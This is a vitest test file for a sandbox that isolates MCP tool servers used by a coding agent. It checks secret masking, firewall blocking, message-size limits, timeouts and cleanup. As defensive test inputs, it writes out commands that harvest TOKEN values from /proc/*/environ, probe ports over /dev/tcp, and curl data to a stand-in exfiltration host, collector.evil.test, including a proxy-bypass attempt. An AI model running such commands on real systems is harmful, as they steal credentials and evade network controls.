import { createHash } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'

import { afterAll, beforeAll, expect, it } from 'vitest'

import { fixtureServer, openTestMcp, type TestMcp } from '../testing/open-test-mcp.ts'

let mcp: TestMcp

beforeAll(async () => {
  mcp = await openTestMcp({
    servers: {
      one: fixtureServer({ env: { TOKEN: '$COPILOT_MCP_ONE' } }),
      two: fixtureServer({ env: { TOKEN: '$COPILOT_MCP_TWO' } }),
      chosen: fixtureServer({ tools: ['die', 'hang'] }),
      flooding: fixtureServer(),
      many: fixtureServer({}, '--many'),
      loud: fixtureServer(),
      plain: fixtureServer(),
    },
    values: { COPILOT_MCP_ONE: 'secret-of-one', COPILOT_MCP_TWO: 'secret-of-two' },
    settings: { mcp: { call_seconds: 20 } },
  })
})
afterAll(() => mcp?.[Symbol.asyncDispose]())

it('a tool that is not listed is neither shown nor called', async () => {
  const tools = await mcp.tools('chosen')
  const called = await mcp.call('chosen', 'sh', { command: 'echo called' })

  expect(tools).toEqual(['hang', 'die'])
  expect(called).toMatchObject({ isError: true })
  expect(JSON.stringify(called)).not.toContain('called\\n')
})

it('what one server was given is seen by no other and not by the agent', async () => {
  // By what of it is not masked: the value itself never gets out.
  const look =
    'cat /proc/*/environ | tr "\\0" "\\n" | grep -a "^TOKEN=" | sort -u | tr -d "\\n" | sha256sum'
  const hashOf = (text: string): string => createHash('sha256').update(text).digest('hex')

  const one = await mcp.say('one', 'sh', { command: look })
  const two = await mcp.say('two', 'sh', { command: look })
  const plain = await mcp.say('plain', 'environments')
  const own = await mcp.say('one', 'environments')

  expect(one).toContain(hashOf('TOKEN=secret-of-one'))
  expect(two).toContain(hashOf('TOKEN=secret-of-two'))
  expect(plain).not.toContain('TOKEN')
  expect(own).toContain('TOKEN=***')
  expect(JSON.stringify(await mcp.events('mcp.call'))).not.toContain('secret-of')
})

it('a server reaches neither the models nor another’s way out', async () => {
  const connect = '(exec 3<>/dev/tcp/127.0.0.1/\\$port) 2>/dev/null && echo reached \\$port'
  const command = `bash -c "for port in 4010 4011 4012; do ${connect}; done"; ls /run/errand`

  const said = await mcp.say('plain', 'sh', { command })

  // Its own firewall, and nothing else.
  expect(said).toBe('reached 4011\n4011.sock\n')
})

it('what a server sends elsewhere is stopped by its firewall, and told with its name', async () => {
  const command = 'curl -sS -m 20 -o /dev/null -w "%{http_code}" http://collector.evil.test/?all'

  const said = await mcp.say('one', 'sh', { command })
  const straight = await mcp.say('one', 'sh', {
    command: 'curl -sS -m 5 --noproxy "*" http://collector.evil.test/ || echo unreachable',
  })

  expect(said).toContain('403')
  expect(straight).toContain('unreachable')
  expect(await mcp.events('firewall.blocked')).toMatchObject([
    { host: 'collector.evil.test', rule: 'not_allowed', mcp_server: 'one' },
  ])
})

it('an answer of 100 MB fails the call and nothing else', async () => {
  const flood = await mcp.call('flooding', 'flood')
  const after = await mcp.say('plain', 'sh', { command: 'echo still here' })
  const again = await mcp.say('flooding', 'sh', { command: 'echo started again' })

  expect(flood).toMatchObject({ isError: true })
  expect(JSON.stringify(flood)).toContain('sent a message of more than 8 MiB')
  expect(after).toBe('still here\n')
  expect(again).toBe('started again\n')
})

it('large results are cut to what an agent can take, and to less in the log', async () => {
  const { content } = await mcp.call('plain', 'image')
  const long = await mcp.say('plain', 'sh', { command: 'head -c 3000000 /dev/zero | tr "\\0" x' })

  expect(content.map(({ type }) => type)).toEqual(['text', 'text', 'text'])
  expect(content[0]?.text).toContain('an image is left out')
  expect(content.at(-1)?.text).toBe('small')
  expect(long.length).toBeLessThan(1024 * 1024)
  for (const event of await mcp.events('mcp.call')) {
    expect(JSON.stringify(event).length).toBeLessThan(40_000)
  }
})

it('a call without an answer ends by itself', async () => {
  const called = await mcp.say('chosen', 'hang')

  expect(called).toBe('The server chosen took longer than 20 s.')
})

it('what nobody sees is no part of a tool, and neither are names that are none', async () => {
  const started = (await mcp.events('mcp.server')).find(({ server }) => server === 'plain')
  const tools = await mcp.tools('plain')

  expect(tools).toEqual(['sh', 'environments', 'flood', 'hang', 'die', 'shout', 'image'])
  expect(started?.message).toContain('2 of its tools are left out')
  expect(await mcp.descriptions('plain')).toContain('Runs a command')
})

it('a thousand tools are a hundred and twenty-eight', async () => {
  expect(await mcp.tools('many')).toHaveLength(128)
})

it('a server that prints errors without end is ended, and the others go on', async () => {
  const shouted = await mcp.say('loud', 'shout')

  expect(shouted).toContain('The server loud printed errors without end')
  expect(await mcp.say('plain', 'sh', { command: 'echo x' })).toBe('x\n')
})

it('what the agent puts into the checkout is not run by a server', async () => {
  await writeFile(join(mcp.workspace.workspaceDir, 'package.json'), '{"scripts":{"x":"echo ran"}}')

  const ran = await mcp.say('plain', 'sh', { command: 'npm run x 2>&1' })
  const seen = await mcp.say('one', 'sh', { command: 'ls -A . /workspace; npm run x 2>&1' })

  expect(ran).toContain('ENOENT')
  expect(ran + seen).not.toContain('ran\n')
  expect(seen).not.toContain('Missing script')
})

it('nothing of a server is left when the session is over', async () => {
  const command = 'nohup sleep 86311 >/dev/null 2>&1 & echo $!'
  await mcp.say('plain', 'sh', { command })

  await mcp.end()

  const left = readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('86311')
      } catch {
        return false
      }
    })
  expect(left).toEqual([])
})
